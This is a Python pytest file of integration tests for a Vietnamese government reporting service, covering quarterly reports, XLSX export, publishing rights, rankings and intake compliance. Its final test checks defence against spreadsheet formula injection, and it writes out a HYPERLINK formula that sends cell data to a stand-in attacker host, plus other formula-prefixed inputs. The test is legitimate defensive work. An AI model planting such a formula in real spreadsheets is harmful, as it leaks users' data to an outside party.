"""Periodic reports (Đ18), their XLSX, publishing (Đ16.2), ranking ties (Đ21), intake (Đ6.1)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.integration.reportingkit import Task, at, document, headers, reporting_service, unit


@pytest.fixture()
def reporting(reporting: Any) -> Iterator[Any]:
    unit(reporting, "SO_TC", "Sở Tài chính")
    unit(reporting, "SO_XD", "Sở Xây dựng")
    Task(reporting, "SO_TC", "2026-10-05", "2026-11-20").complete(at("2026-11-19"))
    Task(reporting, "SO_TC", "2026-10-05", "2026-11-20").complete(at("2026-11-24"))
    Task(reporting, "SO_XD", "2026-10-05", "2026-11-20").complete(at("2026-11-18"))
    Task(reporting, "SO_XD", "2026-10-05", "2026-12-30")
    Task(reporting, "SO_XD", "2026-10-05", None)
    yield reporting


def post(service: Any, path: str, body: Any = None, role: str = "office") -> Any:
    return service.client.post(path, json=body, headers=headers(role))


def generate(service: Any, period: Any = "2026-Q4") -> dict[str, Any]:
    answer = post(service, "/api/reporting/reports", {"period": period})
    assert answer.status_code == 201, answer.get_data(as_text=True)
    return answer.get_json()


def test_a_quarterly_report_is_generated_stored_and_audited_D18(reporting: Any) -> None:
    report = generate(reporting)
    assert (report["period"], report["from"], report["to"]) == (
        "2026-Q4",
        "2026-10-01",
        "2026-12-31",
    )
    assert report["totals"]["total"] == 5 and report["totals"]["completed_on_time"] == 2
    assert [u["unit"] for u in report["units"]] == ["SO_TC", "SO_XD"]
    assert report["published"] is False
    listed = reporting.client.get("/api/reporting/reports", headers=headers()).get_json()
    assert [item["id"] for item in listed["items"]] == [report["id"]]
    shown = reporting.client.get(f"/api/reporting/reports/{report['id']}", headers=headers())
    assert shown.get_json()["totals"] == report["totals"]
    with reporting.runtime.platform.database.read() as conn:
        audit = reporting.runtime.platform.audit_log.table
        actions = conn.execute(select(audit.c.action, audit.c.entity_id)).all()
    assert ("report.generated", report["id"]) in [tuple(row) for row in actions]


def test_reports_take_a_half_year_a_year_or_from_to_and_refuse_nonsense_D18(
    reporting: Any,
) -> None:
    assert generate(reporting, "2026-H2")["from"] == "2026-07-01"
    assert generate(reporting, "2026")["to"] == "2026-12-31"
    custom = generate(reporting, {"from": "2026-10-01", "to": "2026-10-31"})
    assert custom["period"] == "2026-10-01..2026-10-31" and custom["totals"]["total"] == 5
    for bad in ("2026-Q5", "Q4", {"from": "2026-12-01", "to": "2026-11-01"}, 7):
        answer = post(reporting, "/api/reporting/reports", {"period": bad})
        assert answer.status_code == 422, bad
    assert (
        post(reporting, "/api/reporting/reports", {"period": "2026"}, "leader").status_code == 403
    )


def test_the_report_downloads_as_an_xlsx_sheet_with_vietnamese_headings_D18(
    reporting: Any,
) -> None:
    report = generate(reporting)
    answer = reporting.client.get(f"/api/reporting/reports/{report['id']}.xlsx", headers=headers())
    assert answer.status_code == 200
    assert answer.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(BytesIO(answer.data)).active
    heading = [cell.value for cell in sheet[4]]
    assert heading[:4] == ["STT", "Đơn vị", "Tổng số", "Hoàn thành đúng hạn"]
    assert heading[6] == "Đang thực hiện quá hạn" and heading[-1] == "Tỷ lệ đúng hạn"
    assert [cell.value for cell in sheet[5]][:5] == [1, "Sở Tài chính", 2, 1, 1]
    assert [cell.value for cell in sheet[6]][:3] == [2, "Sở Xây dựng", 3]
    totals = [cell.value for cell in sheet[7]]
    assert totals[1] == "Tổng cộng" and totals[2] == 5 and totals[-1] == pytest.approx(2 / 3, 1e-3)
    assert sheet["J7"].number_format == "0.0%"
    assert sheet.freeze_panes == "C5"
    assert "quý IV năm 2026" in sheet["A2"].value and "15/12/2026" in sheet["A2"].value


def test_publishing_makes_a_report_public_and_announces_it_D16_2(reporting: Any) -> None:
    draft = generate(reporting, "2026-H2")
    report = generate(reporting)
    public = reporting.client.get("/api/reporting/public/reports")
    assert public.status_code == 200 and public.get_json()["items"] == []
    publish = f"/api/reporting/reports/{report['id']}/publish"
    assert post(reporting, publish, role="unit_head").status_code == 403
    # The Office's staff prepare; its leader approves by publishing (or approves the Office's
    # evaluation report, whose publication publishes the figures).
    refused = post(reporting, publish, role="office")
    assert refused.status_code == 403
    assert "Lãnh đạo Văn phòng" in refused.get_json()["detail"]
    assert reporting.client.get("/api/reporting/public/reports").get_json()["items"] == []
    published = post(reporting, publish, role="office_lead")
    assert published.status_code == 200 and published.get_json()["published"] is True
    again = post(reporting, publish, role="office_lead")
    assert again.status_code == 200
    listed = reporting.client.get("/api/reporting/public/reports").get_json()
    assert [item["id"] for item in listed["items"]] == [report["id"]]
    shown = reporting.client.get(f"/api/reporting/public/reports/{report['id']}").get_json()
    assert shown["totals"]["total"] == 5
    assert "generated_by" not in shown and "published_by" not in shown
    assert "explanations" not in shown and "office" not in shown
    # The report's own unit figures in Đ21 order: what /rankings answers for the same period.
    live = reporting.client.get("/api/reporting/rankings?period=2026-Q4", headers=headers())
    assert shown["rankings"] == live.get_json()["items"]
    assert [row["rank"] for row in shown["rankings"]] == [1, 2]
    hidden = reporting.client.get(f"/api/reporting/public/reports/{draft['id']}")
    assert hidden.status_code == 404
    with reporting.runtime.platform.database.read() as conn:
        outbox = reporting.runtime.platform.tables.outbox
        bodies = conn.execute(select(outbox.c.event_type, outbox.c.body)).all()
    events = [json.loads(body) for kind, body in bodies if kind == "report.published"]
    assert len(events) == 1 and events[0]["data"]["id"] == report["id"]
    assert "generated_by" not in events[0]["data"] and "rankings" not in events[0]["data"]


def test_every_route_but_the_public_ones_needs_a_token_D16_2(reporting: Any) -> None:
    report = generate(reporting)
    for path in (
        "/api/reporting/stats?period=2026",
        "/api/reporting/stats/tasks?period=2026",
        "/api/reporting/reports",
        f"/api/reporting/reports/{report['id']}",
        f"/api/reporting/reports/{report['id']}.xlsx",
        "/api/reporting/rankings?period=2026",
        "/api/reporting/explanations?period=2026",
        "/api/reporting/intake-compliance?year=2026",
    ):
        assert reporting.client.get(path).status_code == 401, path
    assert (
        reporting.client.post("/api/reporting/reports", json={"period": "2026"}).status_code == 401
    )
    spec = reporting.client.get("/api/reporting/openapi.json").get_json()
    assert "security" not in spec["paths"]["/api/reporting/public/reports"]["get"]
    assert "security" not in spec["paths"]["/api/reporting/public/reports/{report_id}"]["get"]
    assert spec["paths"]["/api/reporting/reports"]["get"]["security"] == [{"bearer": []}]


def test_ties_in_the_ranking_follow_the_written_rule_D21(
    tmp_path: Path, bus_namespace: str
) -> None:
    with reporting_service(tmp_path, bus_namespace) as service:
        # Every rated unit is at 1/2. B completed more on time; A and C are equal in every
        # count, so the code decides; E has its judged task still overdue, not finished late.
        plan = {"A": (1, 1, 0), "B": (2, 1, 1), "C": (1, 1, 0), "D": (0, 0, 0), "E": (1, 0, 1)}
        for code, (on_time, late, overdue) in plan.items():
            for _ in range(on_time):
                Task(service, code, "2026-10-05", "2026-11-20").complete(at("2026-11-19"))
            for _ in range(late):
                Task(service, code, "2026-10-05", "2026-11-20").complete(at("2026-11-24"))
            for _ in range(overdue):
                Task(service, code, "2026-10-05", "2026-11-20")
        Task(service, "D", "2026-10-05", "2026-12-31")  # nothing due yet: not ranked
        items = service.client.get(
            "/api/reporting/rankings?period=2026-Q4", headers=headers()
        ).get_json()["items"]
    assert [(row["rank"], row["unit"]) for row in items] == [
        (1, "B"),
        (2, "A"),
        (3, "C"),
        (4, "E"),
        (None, "D"),
    ]


def test_the_offices_intake_compliance_is_counted_by_month_D6_1(
    tmp_path: Path, bus_namespace: str
) -> None:
    with reporting_service(tmp_path, bus_namespace) as service:
        document(service, "a" * 32, "1/QĐ-UBND", "2026-01-05", at("2026-01-05"))
        document(service, "b" * 32, "2/QĐ-UBND", "2026-01-06", at("2026-01-08"), late=True)
        document(service, "c" * 32, "3/QĐ-UBND", "2026-02-27", at("2026-03-01", 0, 30))
        document(service, "d" * 32, "4/QĐ-UBND", "2025-12-30", at("2025-12-31"))
        answer = service.client.get("/api/reporting/intake-compliance?year=2026", headers=headers())
        refused = service.client.get(
            "/api/reporting/intake-compliance?year=2026", headers=headers("unit_head", "SO_TC")
        )
    body = answer.get_json()
    january, february, march = body["months"][:3]
    assert (january["released"], january["on_time"], january["late"]) == (2, 1, 1)
    assert january["on_time_rate"] == 0.5 and february["released"] == 0
    assert march["released"] == 1  # 00:30 local on 1 March is March, though UTC says February
    assert body["totals"]["released"] == 3 and refused.status_code == 403


def test_text_that_looks_like_a_formula_is_never_a_formula_in_the_xlsx(
    tmp_path: Path, bus_namespace: str
) -> None:
    """A unit name or task content starting with =, +, -, @, a tab or CR (OWASP "CSV
    injection") is stored as text in every sheet, never as a formula Excel would run."""
    link = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    names = {"SO_A": link, "SO_B": "+1+1", "SO_C": "-2+3", "SO_D": "@SUM(1,2)", "SO_E": "\t=1"}
    with reporting_service(tmp_path, bus_namespace) as service:
        for code, name in names.items():
            unit(service, code, name)
            task = Task(service, code, "2026-10-05", None)
            task.send("task.accepted", "in_progress", at("2026-10-06"), content=link)
        report = generate(service)
        answer = service.client.get(
            f"/api/reporting/reports/{report['id']}.xlsx", headers=headers()
        )
    assert answer.status_code == 200
    book = load_workbook(BytesIO(answer.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert set(names.values()) <= texts
    assert link in {cell.value for cell in book["Giải trình (Đ17.4)"]["B"]}
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t"]
    assert risky and all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
